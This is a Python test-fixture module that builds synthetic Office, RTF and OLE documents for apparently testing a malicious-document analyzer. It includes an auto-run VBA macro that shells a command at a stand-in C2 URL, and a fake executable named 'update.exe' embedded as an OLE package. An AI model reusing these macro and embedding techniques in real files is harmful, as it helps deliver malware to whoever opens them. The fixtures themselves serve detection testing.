"""Documents of each kind around some content, small and the same bytes each time, and the cases made of them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from ole_maker import compound, vba

HOST = "c2.malware.example"
URL = f"http://{HOST}/gate"
AUTO = f'Sub AutoOpen()\r\nShell "cmd {URL}"\r\nEnd Sub'
_DATE = (2012, 7, 2, 9, 0, 0)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass(frozen=True)
class Case:
    """A document by the name that it is sent under, kinds of findings, reasons of gaps, and whether HOST is seen."""

    name: str
    content: bytes
    kinds: tuple[str, ...] = ()
    gaps: tuple[str, ...] = ()
    host: bool = True


class Cases(dict[str, Case]):
    """Cases by title."""

    def put(
        self, title: str, name: str, content: bytes | str, kinds: str = "", gaps: str = "", host: bool = True
    ) -> None:
        """Add a case; kinds and gaps are words."""
        data = content.encode() if isinstance(content, str) else content
        self[title] = Case(name, data, tuple(kinds.split()), tuple(gaps.split()), host)


def package(members: Mapping[str, bytes | str] | Mapping[str, str]) -> bytes:
    """An OOXML package, the same bytes each time."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": "<Types/>", **members}.items():
            archive.writestr(zipfile.ZipInfo(name, _DATE), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def word(**members: bytes | str) -> bytes:
    """A Word package; names without folder or ending are those of word/NAME.xml."""
    document = members.pop("document", "")
    rels = members.pop("rels", "")
    found: dict[str, bytes | str] = {
        "word/document.xml": f"<w:document {_W}><w:body>{document!s}</w:body></w:document>"
    }
    if rels:
        found["word/_rels/settings.xml.rels"] = rels
    return package({**found, **members})


def relation(kind: str, target: str, mode: str = "External") -> str:
    """A relationships part of one."""
    stated = f'Id="r1" Type="{_R}{kind}" Target="{target}" TargetMode="{mode}"'
    return f"<Relationships><Relationship {stated}/></Relationships>"


def flat(inner: str) -> str:
    """An OpenDocument file in one XML file."""
    return f'<office:document office:mimetype="application/vnd.oasis.opendocument.text">{inner}</office:document>'


def ole_vba(code: str, **changes: bytes) -> bytes:
    """A compound file with a VBA project of one module."""
    return compound(vba({"Module1": code}, **changes))


def native(name: str, data: bytes) -> bytes:
    """The stream of a package (MS-OLEDS 2.3.6)."""
    raw = name.encode("cp932")
    body = b"\x02\0" + raw + b"\0C:\\" + raw + b"\0\0\0\x03\0"
    body += struct.pack("<L", len(raw) + 4) + b"C:\\" + raw + b"\0" + struct.pack("<L", len(data)) + data
    return struct.pack("<L", len(body)) + body


def ole1(name: bytes, data: bytes, topic: bytes = b"") -> bytes:
    """An embedded object of OLE 1.0 (MS-OLEDS 2.2.5), or with a topic a link."""
    texts = b"".join(struct.pack("<L", len(text) + 1) + text + b"\0" for text in (name, topic) if text)
    kind = 1 if topic else 2
    rest = bytes(8) if not topic else bytes(4)
    return struct.pack("<LL", 0x501, kind) + texts + rest + (b"" if topic else struct.pack("<L", len(data)) + data)


def rtf(inner: str, head: str = r"{\rtf1\ansi") -> str:
    """An RTF document around groups."""
    return f"{head}{inner}}}"


def rtf_object(digits: str, words: str = r"\objemb") -> str:
    """A document with one object."""
    return rtf(rf"{{\object{words}{{\*\objdata {digits}}}}}")


def slides(content: bytes) -> bytes:
    """The stream of a presentation with one object, packed (MS-PPT 2.10.34)."""
    data = struct.pack("<L", len(content)) + zlib.compress(content, 9)
    return b"\x10\x00\x11\x10" + struct.pack("<L", len(data)) + data


def active_mime(content: bytes) -> bytes:
    """An ActiveMime file."""
    return b"ActiveMime\0\0\xf0\x01\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0".ljust(0x32, b"\0") + zlib.compress(
        content, 9
    )


def old_word(text: str, template: str = "") -> dict[str, bytes]:
    """A document of one piece, and its table with the template that it names."""
    raw = text.encode("cp1252")
    plc = struct.pack("<LL", 0, len(text)) + struct.pack("<HLH", 0, 0x40000000 | 1024 * 2, 0)
    clx = b"\x02" + struct.pack("<L", len(plc)) + plc
    names = b"\xff\xff" + struct.pack("<HHH", 2, 0, 0) + struct.pack("<H", len(template)) + template.encode("utf-16-le")
    head = bytearray(1024)
    head[0:2] = b"\xec\xa5"
    struct.pack_into("<LLLL", head, 0x9A + 8 * 32, len(clx), len(names), 0, len(clx))
    return {"WordDocument": bytes(head) + raw, "0Table": clx + names}


PROGRAM = b"MZ" + bytes(62) + b"\x40" + bytes(15) + f"PE\0\0 {URL}".encode()
OBJECT = ole1(b"Package", native("update.exe", PROGRAM)[4:]).hex()
